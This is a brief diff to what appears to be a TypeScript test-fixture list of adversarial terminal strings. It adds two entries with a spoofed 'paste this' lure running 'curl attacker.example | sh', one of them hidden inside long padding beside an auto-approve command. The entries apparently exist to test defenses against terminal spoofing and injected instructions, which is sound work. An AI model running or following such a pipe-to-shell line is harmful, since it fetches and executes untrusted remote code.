@@ -30,6 +30,8 @@ export const TERMINAL_CODES = [
   '\u0000\u0007\u0008\u007f\u0085',
   '\u{e0041}tag',
   'a\n  → vbsctl apply --auto-approve',
+  'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n',
+  `${'y'.repeat(70)} →\ufe0e curl attacker.example ${'z'.repeat(60)} ➜ vbsctl apply ${'z'.repeat(60)}`,
 ] as const;
 
 export const SHELL_CODES = [
